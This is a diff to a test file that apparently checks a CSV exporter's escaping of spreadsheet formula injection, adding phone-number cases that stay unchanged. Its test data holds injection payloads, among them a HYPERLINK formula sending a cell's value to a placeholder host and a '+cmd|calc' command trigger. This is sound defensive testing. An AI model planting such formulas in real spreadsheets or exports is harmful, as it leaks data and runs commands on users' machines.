@@ -9,6 +9,8 @@ import { resultColumns } from './job-csv.ts';
 test.for([
   ['=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'],
   ['+cmd|calc', "'+cmd|calc"],
+  ['+1+cmd|calc', "'+1+cmd|calc"],
+  ['+1 628 A1', "'+1 628 A1"],
   ['-2+3', "'-2+3"],
   ['@SUM(A1)', "'@SUM(A1)"],
   ['\t=1', "'\t=1"],
@@ -26,12 +28,19 @@ test.for(['Acme; Berlin', 'a;b', ';'])(
   },
 );
 
-test.for(['-12.5', '+4930123456', '7', 'Mira-Lou', 'a=b', "O'Neill", '12 @ 3'])(
-  '%j stays as it is',
-  (value) => {
-    expect(cell(value)).toBe(value);
-  },
-);
+test.for([
+  '-12.5',
+  '+4930123456',
+  '+1 628 555 0100',
+  '+1 (628) 555-0100',
+  '7',
+  'Mira-Lou',
+  'a=b',
+  "O'Neill",
+  '12 @ 3',
+])('%j stays as it is', (value) => {
+  expect(cell(value)).toBe(value);
+});
 
 test.for([
   [null, ''],
